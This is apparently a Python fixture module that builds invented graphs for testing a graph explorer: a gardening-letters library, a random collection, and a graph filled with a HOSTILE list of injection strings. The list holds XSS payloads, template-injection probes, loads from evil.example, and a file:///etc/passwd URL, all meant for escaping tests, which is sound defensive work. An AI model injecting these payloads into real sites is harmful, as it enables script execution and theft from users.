"""Invented graphs for the explorer: a small library of articles, and one in which every text is hostile."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Any

import networkx as nx

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

BASE = "https://example.org/"
ROLES = ("Beekeeper", "Gardener", "Head of Orchards", "Town Planner")
WORDS = (
    "amber", "basin", "cedar", "delta", "ember", "fjord", "grove", "haven",
    "inlet", "jetty", "knoll", "ledge", "marsh", "north", "otter", "pearl",
)  # fmt: skip
TOPICS = ("Pollination", "Urban Meadows", "Soil Health", "Water Retention", "Seed Banks", "Night Lighting")

HOSTILE: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=2</script>",
    "</ScRiPt ><script src=//evil.example/x.js></script>",
    "<!--<script>window.__pwned=3",
    "--><script>window.__pwned=4</script>",
    "<img src=x onerror=window.__pwned=5>",
    '"><img src=https://evil.example/pixel.png>',
    "'><img src='https://evil.example/p' onload='window.__pwned=6'>",
    "<svg onload=window.__pwned=7>",
    "<svg><script>window.__pwned=8</script></svg>",
    "<math><mtext></mtext><style><img src=x onerror=window.__pwned=9>",
    "<iframe srcdoc='<script>parent.__pwned=10</script>'></iframe>",
    "<object data=data:text/html,<script>window.__pwned=11</script>>",
    "<embed src=https://evil.example/e.swf>",
    "<link rel=stylesheet href=https://evil.example/e.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus onfocus=window.__pwned=12>",
    "<details open ontoggle=window.__pwned=13>",
    "<a href=javascript:window.__pwned=14>href</a>",
    "javascript:window.__pwned=15",
    "JaVaScRiPt:window.__pwned=16",
    "java\tscript:window.__pwned=17",
    " \x01javascript:window.__pwned=18",
    "data:text/html,<script>window.__pwned=19</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/protocol-relative",
    'https://evil.example/" onclick="window.__pwned=20',
    "{{7*7}}{{''.__class__.__mro__}}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "${window.__pwned=21}`${window.__pwned=22}`",
    "\\u003cscript\\u003ewindow.__pwned=23\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwned=24&lt;/script&gt;&amp;&#x3c;img&#x3e;",
    "line\u2028window.__pwned=25\u2029//",
    "\u202etxt.exe\u202c and \u2066isolated\u2069",
    "null\x00byte and \x1b[31m escape \x7f",
    "lone \ud800 surrogate \udfff",
    "*/}body{background:url(https://evil.example/bg.png)}/*",
    "</style><style>@import 'https://evil.example/i.css';",
    "expression(window.__pwned=26); -moz-binding:url(//evil.example/x)",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "#node=#edge=%E0%A4%A",
    "😀 e\u0301 \u200b zero width العربية עברית",
    "x" * 3000,
    "word " * 600,
    "\n\n\t ",
)


def evidence(exact: str, article: str, start: int = 10) -> dict[str, Any]:
    """Return one piece of evidence: the exact words and where they stand."""
    return {
        "exact": exact,
        "section": "Summary",
        "path": "articles/sample.txt",
        "start": start,
        "end": start + len(exact),
        "article": article,
    }


def library(articles: int = 6) -> nx.MultiDiGraph[str]:
    """Return a graph of so many articles that share topics, roles and a publisher."""
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    for number in range(articles):
        title = f"Letter {number + 1} from a garden that nobody planned"
        more = {"date": f"202{number % 6}-05-01", "level": ("beginner", "intermediate")[number % 2]}
        article = _thing(graph, "article", title, note="A letter.", url=f"{BASE}letters/{number}", **more)
        _tie(graph, article, "published by", _thing(graph, "source", "The Meadow Post"), title)
        _tie(graph, article, "filed under", _thing(graph, "field", ("Ecology", "Town & Country")[number % 2]), title)
        for topic in _some(TOPICS, number, 3):
            alt = ("Bee work",) if topic == "Pollination" else ()
            _tie(graph, article, "is about", _thing(graph, "topic", topic, alt=alt), title)
        for role in _some(ROLES, number, 2):
            _tie(graph, article, "is for", _thing(graph, "role", role), title)
        for rule in range(4):
            words = f"Rule {rule + 1} of letter {number + 1}: let the hedge decide where the path should go."
            principle = _thing(graph, "principle", words, note="should")
            _tie(graph, article, "states", principle, title)
            _tie(graph, principle, "concerns", _thing(graph, "topic", TOPICS[(number + rule) % 6]), title)
        _tie(graph, article, "cites", _thing(graph, "code", f"meadow-lab/tool-{number}"), title)
    return graph


def hostile() -> nx.MultiDiGraph[str]:
    """Return a graph that bears every hostile string in every field that can hold a text."""
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    kinds = ("article", "topic", "role", "principle", "source", "field", "code")
    for number, (text, kind) in enumerate(zip(HOSTILE * 2, (*HOSTILE, *kinds), strict=False)):
        graph.add_node(f"{text} {number}", kind=kind, label=text, alt=(text, text), note=text, url=text)
    names = list(graph)
    for number, text in enumerate(HOSTILE):
        quote = {**evidence(text, text), "section": text, "path": text}
        for step in (1, 7):
            target = names[(number + step) % len(names)]
            key = f"{text} {number} {step}"
            graph.add_edge(names[number], target, key=key, relation=text, evidence=(quote,))
    return graph


def collection(size: int) -> nx.MultiDiGraph[str]:
    """Return an invented graph of about so many things: articles, what they are about, state, are for and come from."""
    chance = random.Random(size)  # noqa: S311  # a sample, not a secret
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    articles, topics, themes = round(size * 0.22), round(size * 0.28), max(2, round(size**0.5 / 4))
    for number in range(articles):
        theme = number % themes
        article = _numbered(
            graph, "article", number, date=f"20{number % 20 + 10}-01-01", level=("beginner", "advanced")[number % 2]
        )
        for rank in range(chance.randint(4, 8)):
            spread = (int(chance.paretovariate(1.1)) - 1) % max(1, topics // themes)
            topic = _numbered(graph, "topic", (spread * themes + theme) % topics if rank else chance.randrange(topics))
            _say(graph, article, "is about", topic, chance)
        for role in chance.sample(range(36), 3):
            _say(graph, article, "is for", _numbered(graph, "role", role), chance)
        _say(
            graph,
            article,
            "published by",
            _numbered(graph, "source", chance.randrange(max(1, size * 3 // 100))),
            chance,
        )
        for rule in range(2):
            principle = _numbered(graph, "principle", 2 * number + rule)
            _say(graph, article, "states", principle, chance)
    return graph


def _numbered(graph: nx.MultiDiGraph[str], kind: str, number: int, **more: object) -> str:
    iri = f"https://example.org/{kind}/{number}"
    if iri not in graph:
        label = f"{WORDS[number % 16]} {WORDS[number // 16 % 16]} {kind} {number}"
        graph.add_node(iri, kind=kind, label=label, **more)
    return iri


def _say(graph: nx.MultiDiGraph[str], source: str, relation: str, target: str, chance: random.Random) -> None:
    words = " ".join(chance.choices(WORDS, k=14))
    quote = evidence(
        f"On {graph.nodes[target]['label']} it says that {words}.", graph.nodes[source]["label"], chance.randrange(9000)
    )
    if not graph.has_edge(source, target):
        graph.add_edge(source, target, key=relation, relation=relation, evidence=(quote,))


def _some(names: Sequence[str], first: int, count: int) -> Iterable[str]:
    return (names[(first + step) % len(names)] for step in range(count))


def _thing(graph: nx.MultiDiGraph[str], kind: str, label: str, **more: object) -> str:
    iri = f"{BASE}{kind}/{label.lower().replace(' ', '-')}"
    if iri not in graph:
        graph.add_node(iri, kind=kind, label=label, **more)
    return iri


def _tie(graph: nx.MultiDiGraph[str], source: str, relation: str, target: str, article: str) -> None:
    quote = evidence(f"It {relation} {graph.nodes[target]['label']}, as the letter says.", article)
    graph.add_edge(source, target, key=f"{source} {relation} {target}", relation=relation, evidence=(quote,))
